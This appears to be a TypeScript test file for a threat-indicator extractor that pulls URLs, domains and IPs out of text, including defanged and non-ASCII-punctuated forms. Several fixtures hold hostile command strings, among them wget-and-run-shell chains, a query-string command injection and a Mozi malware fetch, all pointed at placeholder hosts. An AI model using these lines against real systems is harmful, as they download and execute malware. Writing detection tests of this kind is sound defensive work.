import { describe, test } from 'vitest';
import { expectAllFound, expectFound, expectNothing } from './tables.ts';

const [HOST, A, B] = ['http://panel.example', 'http://panel.example/a', 'http://drop.example/b'];
const fill = (lines: readonly string[], url: string) => lines.map((line) => line.replace('|', () => url));

describe('a URL in a command', () => {
  test('ends before the next one', () => {
    const next = [';./a', ';/bin/sh a', '&&./a', '&chmod +x a', '||/tmp/a', ';../a', '&sh a'];
    expectAllFound(
      [`url ${A}`],
      [...next.map((command) => `wget ${A}${command}`), `wget ${A}|/bin/sh`, 'wget${IFS}' + A + '${IFS}-O${IFS}/tmp/a'],
    );
  });

  test('ends there in a request line too', () => {
    const lines = [
      'GET /shell?cd+/tmp;wget+|+-O+/tmp/x;chmod+777 HTTP/1.1',
      'cmd=busybox+wget+|;sh+/tmp/a',
      'wget%20|%20-O%20/tmp/a',
      'wget%20|%3Bsh%20a',
      'wget%20|%7Csh',
      'wget%20|%3B%20chmod%20777',
      '/?country=$(wget%20|%20-O-|sh)',
      'curl+-o+/tmp/a+|;sh',
    ];
    expectAllFound([`url ${A}`], fill(lines, A));
    expectFound({ 'GET /?a=wget+http://192.0.2.1:8080/Mozi.a+-O+/tmp/x': ['url http://192.0.2.1:8080/Mozi.a'] });
  });

  test('keeps what only looks like one', () => {
    const rests = ['?a=1&sh=2', '?q=a+-b', ';stok=/locale', '?a=1;b=2', '?q=a%20-%20b', '?a=1&start', '/bin/sh', '|b'];
    for (const rest of rests) expectAllFound([`url ${A}${rest}`], [`see ${A}${rest} now`]);
    expectAllFound(['url git+https://panel.example/a'], ['pip install git+https://panel.example/a']);
  });
});

describe('punctuation and symbols outside of ASCII', () => {
  const marks = Array.from('،؟।､・⟩❯﹞﹥＂＇′´™✓✔■█§➜➔⟶▶…–—，。」’»†※♦🔥\uFFFD');
  test('end a URL, with a path and without', () => {
    for (const url of [HOST, A]) {
      const lines = marks.flatMap((mark) => [`|${mark}`, `|${mark} then`, `(|${mark})`]);
      expectAllFound([`url ${url}`], fill(lines, url));
    }
    expectAllFound([`url ${A}`], fill(['|—then', '|–then', '⟨|⟩', '❮|❯', '＂|＂', '﹝|﹞'], A));
  });

  test('stand between two', () => {
    for (const url of [HOST, A])
      expectAllFound(
        [`url ${url}`, `url ${B}`],
        Array.from('､・～▶⇒➜➔⟶→，、').map((mark) => `${url}${mark}${B}`),
      );
    expectAllFound([`url ${A}`, `url ${B}`], [`${A}->${B}`, `${A}=>${B}`, `${A}-->${B}`]);
    expectAllFound(['url http://panel.example', 'url http://drop.example'], ['http://panel.example->http://drop.example']);
  });

  test('may stand within a word or a name', () => {
    for (const url of ['http://panel.example/col·legi/ä', 'http://💩.example/a', 'http://❤.example'])
      expectAllFound([`url ${url}`], [url, `see ${url} now`]);
  });
});

test('a word that touches a file ends a URL', () => {
  const file = `${HOST}/gate.php`;
  expectAllFound(
    [`url ${file}`],
    [`${file}에서`, `${file}から取得`, `从${file}下载`, `${file}'den`, `(${file}'ye)`, `${file}'s code`],
  );
  expectAllFound([`url ${file}?f=a.exe`], [`${file}?f=a.exe로`, `${file}?f=a.exe'yi`]);
  const within = [`${HOST}/下载/文件.exe`, `${HOST}/wiki/C言語`, `${file}?x=it's`, `${HOST}/a.php'x/b`, `${HOST}/a.b에서`];
  expectFound(Object.fromEntries(within.map((url) => [url, [`url ${url}`]])));
});

test('an ideographic full stop between labels is a dot, behind a name it ends the sentence', () => {
  expectAllFound(
    [`url ${A}`],
    ['http://panel。example/a', 'hxxp://panel．example/a', 'see http://panel｡example/a', `${A}。then`],
  );
  expectAllFound([`url ${HOST}`], [`${HOST}。then`, `${HOST}。`, `见${HOST}。然后`]);
});

describe('a label or note', () => {
  test('ends a URL', () => {
    const behind = ['[the panel]', '[1][2]', '[1]', '[/url]', '%20x', '%0d', '%3Cb'];
    expectAllFound(
      [`url ${HOST}`],
      behind.map((text) => HOST + text),
    );
    expectAllFound([`url ${A}`], [`${A}[1][2]`, `${A}[1][2], then`, `[[${A}|the panel]]`, `[[${A}]]`]);
  });

  test('of emphasis too', () => {
    const lines = ['_|_', '__|__', '~~|~~', '==|==', '_|_.', '(_|_)', 'see __|__, then'];
    for (const url of [HOST, A, 'http://panel.example/a_b']) expectAllFound([`url ${url}`], fill(lines, url));
    expectFound({ 'a=http://panel.example/a_': [`url ${A}_`], 'x=http://panel.example/?a==': [`url ${HOST}/?a==`] });
  });
});

test('a list needs no schemes where its names are defanged', () => {
  for (const mark of ',;|') {
    expectFound({
      [`panel[.]example/a${mark}drop[.]example/b`]: ['url panel.example/a', 'url drop.example/b'],
      [`hxxp://panel[.]example/a${mark}drop[.]example`]: [`url ${A}`, 'domain drop.example'],
      [`panel[.]example/a?b=1${mark}www.drop(.)example`]: ['url panel.example/a?b=1', 'domain www.drop.example'],
      [`${A}${mark}drop.example${mark}192.0.2.1`]: [`url ${A}`, 'domain drop.example', 'ip 192.0.2.1'],
      [`panel.example/a${mark}drop.example/b`]: ['url panel.example/a', 'url drop.example/b'],
    });
  }
  for (const url of [`${A},b.html`, `${HOST}/?d=panel.example,drop.example`, `${A},b,c`]) expectAllFound([`url ${url}`], [url]);
});

test('a scheme may lack a mark', () => {
  const heads = [
    'http:/',
    'hxxp:/',
    'http[:/]/',
    'http_//',
    'h__p://',
    'h--p://',
    'http//',
    'hxxp[:]//',
    'hxxp[:]\\\\',
    'http:\\\\',
  ];
  for (const head of heads) expectAllFound([`url ${A}`], [`${head}panel.example/a`, `see ${head}panel[.]example/a now`]);
  expectAllFound(
    ['url https://panel.example/a'],
    ['hxxp[s]://panel.example/a', 'http[s]://panel[.]example/a', 'https:/panel.example/a'],
  );
  expectNothing(['http:/api/a http//a hxxp:/a', 'from src/http/a and net/http//b', 'http__request.method']);
});

test('a number in brackets within a name is no footnote', () => {
  expectAllFound([`url ${A}[1].php`], [`see ${A}[1].php now`]);
  expectAllFound([`url ${A}`], [`see ${A}[1]. Then`, `see ${A}[1].`]);
});

test('a URL behind a key and a colon ends before the next key', () => {
  expectAllFound([`url ${A}`], [`url:${A};hash:abc`, `|url:${A}|x`, `host:x,url:${A},hash:abc`, `(see:${A})`, `{url:${A}}`]);
  for (const rest of [';id=1', '?x=1;y:2', ';x://y', '/x:y']) expectAllFound([`url ${A}${rest}`], [`see ${A}${rest} now`]);
});
